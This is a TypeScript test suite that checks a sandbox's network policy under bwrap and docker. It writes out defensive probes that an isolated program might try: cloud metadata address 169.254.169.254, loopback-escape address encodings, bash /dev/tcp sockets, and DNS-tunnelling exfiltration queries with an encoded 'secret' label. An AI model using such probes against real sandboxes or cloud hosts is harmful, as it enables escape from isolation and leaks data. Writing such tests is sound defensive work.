import { once } from 'node:events';
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NetworkPolicy, NetworkRule } from '../../lib/network/policy/policy.ts';
import { NetworkService } from '../../lib/network/worker/network-service.ts';
import type { RunningSandbox } from '../../lib/runtime/runtime.ts';
import { type Daemon, startDaemon } from '../docker/daemon.ts';
import { importImage } from '../docker/images.ts';
import { useBwrap } from '../lib/runtime/bwrap/fixture.ts';
import { openScene, type Scene } from '../lib/runtime/docker/sandbox.ts';
import { run } from '../lib/runtime/run.ts';
import { makeSite } from './site.ts';
import { openWorld, type World } from './world.ts';

const bwrap = useBwrap();
const directory = mkdtempSync('/tmp/paddock-programs-');
let world: World;
let networks: NetworkService;
let dockerd: Daemon | undefined;
let scene: Scene | undefined;

beforeAll(async () => {
  world = await openWorld(await makeSite(directory, 'api.test'));
  for (const name of ['api.test', 'other.test', 'www.test']) world.names.set(name, () => world.address);
  networks = new NetworkService({
    resolvers: [world.resolver],
    allowMax: undefined,
    inspection: undefined,
    descriptors: { listeners: 10_000, connections: 20_000 },
  });
});
afterAll(async () => {
  await networks?.end();
  await world?.close();
  await scene?.end();
  await dockerd?.stop();
  rmSync(directory, { recursive: true, force: true });
});

const rule = (more: Partial<NetworkRule>): NetworkRule => ({
  ...{ action: 'allow', host: '', cidr: '', ports: [], methods: [], path_prefix: '', tls: '' },
  ...more,
});
const POLICY: NetworkPolicy = {
  mode: 'allow_list',
  rules: [rule({ host: 'api.test' }), rule({ host: 'other.test', ports: [8022, 80] })],
  revision: 1,
};

let opened = 0;
/** Opens the network of a sandbox that runs already. */
async function open(sandbox: RunningSandbox, workspace: string, policy = POLICY): Promise<RunningSandbox> {
  cpSync(world.certificate, join(workspace, 'ca.pem'));
  await networks.open(`sb_${++opened}`, sandbox.networkPid(), policy, []);
  const ca = '/workspace/ca.pem';
  const names = ['CURL_CA_BUNDLE', 'GIT_SSL_CAINFO', 'PIP_CERT', 'NODE_EXTRA_CA_CERTS', 'npm_config_cafile'];
  sandbox.setNetwork(Object.fromEntries(names.map((name) => [name, ca])));
  return sandbox;
}

async function bwrapSandbox(isReady = false, policy = POLICY): Promise<RunningSandbox> {
  const spec = bwrap.spec();
  const sandbox = isReady ? await bwrap.launchReady(spec) : await bwrap.runtime.launch(spec);
  return open(sandbox, spec.workspace, policy);
}

const BINARIES = {
  curl: '/usr/bin/curl',
  bash: '/usr/bin/bash',
  nc: '/usr/bin/nc',
  'git-remote-https': '/usr/lib/git-core/git-remote-https',
};

async function dockerSandbox(): Promise<RunningSandbox> {
  dockerd ??= await startDaemon();
  if (scene === undefined) {
    await importImage(dockerd.docker, 'base', { binaries: BINARIES });
    scene = await openScene(dockerd);
  }
  const spec = await scene.spec();
  // Programs only are in the image.
  cpSync('/usr/lib/python3/dist-packages/pip', join(spec.workspace, 'modules/pip'), { recursive: true });
  return open(await scene.launch(spec), spec.workspace);
}

/** What programs without a proxy see. */
const DIRECT = 'unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; ';
const python = (text: string) => `python3 -I - <<'END'\nimport socket, ssl, time\n${text}\nEND`;
const output = async (sandbox: RunningSandbox, script: string) => {
  const { stdout, stderr, code } = await run(sandbox, script, { timeoutMs: 60_000 });
  return `${stdout}${stderr}${code ?? ''}`;
};

/** An attempt that must fail at once: prints its errno or error. What nothing answers is a TimeoutError, or takes the 5 s of a resolver. */
const ATTEMPT = `
def attempt(what):
    began = time.monotonic()
    try: result = 'reached %r' % (what(),)
    except OSError as e: result = type(e).__name__ if isinstance(e, socket.gaierror) else (e.strerror or type(e).__name__)
    print(result if time.monotonic() - began < 4.8 else 'late: ' + result)
def tcp(address, port):
    s = socket.create_connection((address, port), 15); s.settimeout(15); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); return s.recv(10)
def udp(address, port, data=b'x'):
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((address, port)); s.settimeout(15); s.send(data); return s.recv(10)
`;

for (const [runtime, make] of [
  ['bwrap', bwrapSandbox],
  ['docker', dockerSandbox],
] as const) {
  describe(`a sandbox of ${runtime}`, () => {
    let sandbox: RunningSandbox;
    beforeAll(async () => {
      sandbox = await make();
    });

    it('is reached by plain sockets of programs that know no proxy, by name', async () => {
      const program = `
context = ssl.create_default_context(cafile='/workspace/ca.pem')
s = context.wrap_socket(socket.create_connection(('api.test', 443), 10), server_hostname='api.test')
s.send(b'GET /file HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n')
data = b''
while part := s.recv(9999): data += part
print(data.split(b'\\r\\n\\r\\n')[1].decode())`;
      expect(await output(sandbox, python(program))).toBe('the file\n\n');
    });

    it('fetches with curl, with the proxy and without', async () => {
      for (const before of ['', DIRECT]) {
        const script = `${before}curl -sS https://api.test/file http://api.test/file`;
        expect(await output(sandbox, script)).toBe('the file\nthe file\n');
      }
    });

    it('fetches with git and pip, with the proxy and without', async () => {
      // Where the image has them, and where pip writes that is not root of the machine.
      const here =
        runtime === 'docker' ? 'export GIT_EXEC_PATH=/usr/bin HOME=/tmp PYTHONPATH=/workspace/modules; ' : '';
      for (const before of ['', DIRECT]) {
        const git = `${here}${before}rm -rf r; git clone -q --template= https://api.test/repo.git r && cat r/a.txt`;
        expect(await output(sandbox, git)).toBe('from git\n');
        const pip = `${here}${before}rm -rf lib; /usr/bin/python3 -m pip install -q --no-cache-dir --break-system-packages --target lib --index-url https://api.test/simple left; PYTHONPATH=lib python3 -c 'import left; print(left.VALUE)'`;
        expect(await output(sandbox, pip)).toBe('42\n');
      }
    });

    it('is reached and refused by nc, directly and by the proxy', async () => {
      const server = await world.listen(8022, (socket) => socket.end('banner\n'));
      expect(await output(sandbox, 'nc -w 10 other.test 8022 < /dev/null')).toBe('banner\n');
      // It knows no variables, but the protocol.
      const proxied = 'nc -w 10 -X connect -x 127.0.0.1:3128';
      expect(await output(sandbox, `${proxied} other.test 8022 < /dev/null`)).toBe('banner\n');
      server.close();
      const half = `printf 'GET /file HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n' | nc -N -w 10 api.test 80 | tail -n 1`;
      expect(await output(sandbox, half)).toBe('the file\n');
      expect(await output(sandbox, 'nc -w 10 www.test 443 < /dev/null')).toMatch(/Name or service not known/);
      expect(await output(sandbox, `${proxied} www.test 443 < /dev/null`)).toMatch(/403/);
    });

    it('has a connection to any other port by rule, with data of any kind', async () => {
      const server = await world.listen(8022, (socket) => socket.end('banner\n'));
      const script = `bash -c 'exec 3<>/dev/tcp/other.test/8022; cat <&3'`;
      expect(await output(sandbox, script)).toBe('banner\n');
      server.close();
    });

    it('refuses what is not allowed, fast', async () => {
      const program = `${ATTEMPT}
attempt(lambda: socket.getaddrinfo('www.test', 443))
attempt(lambda: socket.getaddrinfo('secret.exfiltrated.api.test', 443))
attempt(lambda: tcp('${world.address}', 443))
attempt(lambda: tcp('169.254.169.254', 80))
attempt(lambda: tcp('::ffff:169.254.169.254', 80))
attempt(lambda: tcp('fd00:ec2::254', 80))
attempt(lambda: tcp('::ffff:${world.address}', 443))
attempt(lambda: tcp('0.0.0.0', 22))
attempt(lambda: udp('${world.resolver}', 53))
attempt(lambda: udp('8.8.8.8', 443))
attempt(lambda: udp(socket.gethostbyname('api.test'), 443))
attempt(lambda: tcp(socket.gethostbyname('api.test'), 8443))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))`;
      const unreachable = 'Network is unreachable';
      const refused = 'Connection refused';
      expect((await output(sandbox, python(program))).trim().split('\n')).toEqual([
        ...['gaierror', 'gaierror'],
        ...[unreachable, unreachable, unreachable, unreachable, unreachable, refused],
        ...[unreachable, unreachable, refused, refused],
        ...['Operation not permitted', 'Permission denied', expect.stringMatching(/not permitted|not supported/)],
      ]);
      expect(world.asked).not.toContain('www.test');
      expect(world.asked.filter((name) => name.includes('exfiltrated'))).toEqual([]);
    });
  });
}

describe('a sandbox of bwrap', () => {
  it.each([
    ['with the proxy', ''],
    ['without it', DIRECT],
  ])('fetches with npm and Node, %s', async (_, before) => {
    const sandbox = await bwrapSandbox(before === '');
    const npm = `${before}npm install --silent --registry https://api.test left >&2; node -p 'require("left")'`;
    expect(await output(sandbox, npm)).toBe('42\n');
    const fetched = `${before}node -e 'fetch("https://api.test/file").then((r) => r.text()).then(console.log)'`;
    expect(await output(sandbox, fetched)).toBe('the file\n\n');
  });

  it('says clearly what it refuses', async () => {
    const sandbox = await bwrapSandbox();
    expect(await output(sandbox, `${DIRECT}curl -sS https://www.test/`)).toContain('Could not resolve host: www.test');
    const refused = await output(sandbox, 'curl -sS https://www.test/; curl -sS http://www.test/');
    expect(refused).toContain('CONNECT tunnel failed, response 403');
    expect(refused).toContain('refused by the network policy of the sandbox');
    expect(await output(sandbox, 'git ls-remote https://www.test/repo.git')).toContain('403');
  });
});

describe('a sandbox whose network is open to everything', () => {
  const OPEN: NetworkPolicy = { mode: 'open', rules: [], revision: 1 };
  /** Connects directly and through the proxy, and prints what answers. */
  const reach = (host: string, port: number) => `
attempt(lambda: tcp('${host}', ${port}))
def proxied():
    s = socket.create_connection(('127.0.0.1', 3128), 5); s.settimeout(5)
    s.send(b'CONNECT ${host.includes(':') ? `[${host}]` : host}:${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
    return s.recv(12)
attempt(proxied)`;

  it('reaches no service of the host, by no address or name of it', async () => {
    const sandbox = await bwrapSandbox(false, OPEN);
    const reached: string[] = [];
    const host = createServer((socket) => {
      reached.push(`${socket.localAddress}`);
      socket.end('reached the host');
    }).listen(0, '::');
    await once(host, 'listening');
    const { port } = host.address() as { port: number };
    const own = Object.values(networkInterfaces()).flatMap((all) => (all ?? []).filter(({ scopeid }) => !scopeid));
    const mapped = [
      '::ffff:127.0.0.1',
      '::ffff:7f00:1',
      '64:ff9b::7f00:1',
      '::127.0.0.1',
      '0.0.0.0',
      '2130706433',
      '127.1',
    ];
    const addresses = [...own.map(({ address }) => address), ...mapped, '169.254.169.254', '198.18.0.1', 'localhost'];
    const named = own.filter(({ family }) => family === 'IPv4');
    for (const [index, { address }] of named.entries()) world.names.set(`own${index}.test`, () => address);
    const names = [...named.keys()].map((index) => `own${index}.test`);
    const program = `${ATTEMPT}${[...addresses, ...names].map((each) => reach(each, port)).join('')}
print(sum(1 for line in open('/proc/net/unix') if '@' in line))`;
    const lines = (await output(sandbox, python(program))).trim().split('\n');
    host.close();
    expect(reached).toEqual([]);
    expect(lines.filter((line) => /late|200|reached the/.test(line))).toEqual([]);
    expect(lines).toHaveLength(2 * (addresses.length + names.length) + 1);
    // Nothing of what makes sockets is left in the namespace.
    expect(lines.at(-1)).toBe('0');
  });

  it('reaches no port of another sandbox, and does not see what serves its network', async () => {
    const [sandbox, other] = [await bwrapSandbox(false, OPEN), await bwrapSandbox(false, OPEN)];
    await run(other, 'python3 -m http.server 9000 >/dev/null 2>&1 &');
    const inside = `for i in $(seq 100); do curl --noproxy '*' -sf http://127.0.0.1:9000/ >/dev/null && break; sleep 0.05; done; echo $?`;
    expect(await output(other, inside)).toBe('0\n');
    const program = `${ATTEMPT}${['127.0.0.1', '0.0.0.0', '198.18.0.1', '198.18.0.2'].map((each) => reach(each, 9000)).join('')}
attempt(lambda: open('/proc/net/unix').read().count('perl'))
import os
print([name for pid in os.listdir('/proc') if pid.isdigit() for name in [open('/proc/%s/comm' % pid).read().strip()] if name in ('perl', 'node')])`;
    const lines = (await output(sandbox, python(program))).trim().split('\n');
    expect(lines.filter((line) => /200|late/.test(line))).toEqual([]);
    expect(lines.slice(-2)).toEqual(['reached 0', '[]']);
  });

  it('sends nothing out in questions for names: of other types, below names, or to other name servers', async () => {
    const sandbox = await bwrapSandbox();
    const before = world.asked.length;
    const program = `${ATTEMPT}
def ask(name, kind, server='127.0.0.1'):
    q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + bytes([0, kind, 0, 1])
    return udp(server, 53, q)[3] & 15
for kind in (1, 2, 5, 12, 15, 16, 28, 33, 255): attempt(lambda: ask('c2VjcmV0.www.test', kind))
for kind in (2, 5, 12, 15, 16, 28, 33, 255): attempt(lambda: ask('api.test', kind))
attempt(lambda: ask('c2VjcmV0.api.test', 16))
attempt(lambda: ask('c2VjcmV0.www.test', 1, '${world.resolver}'))`;
    const lines = (await output(sandbox, python(program))).trim().split('\n');
    expect(lines.filter((line) => line.startsWith('late'))).toEqual([]);
    expect(world.asked.slice(before).filter((name) => name !== 'api.test')).toEqual([]);
  });
});
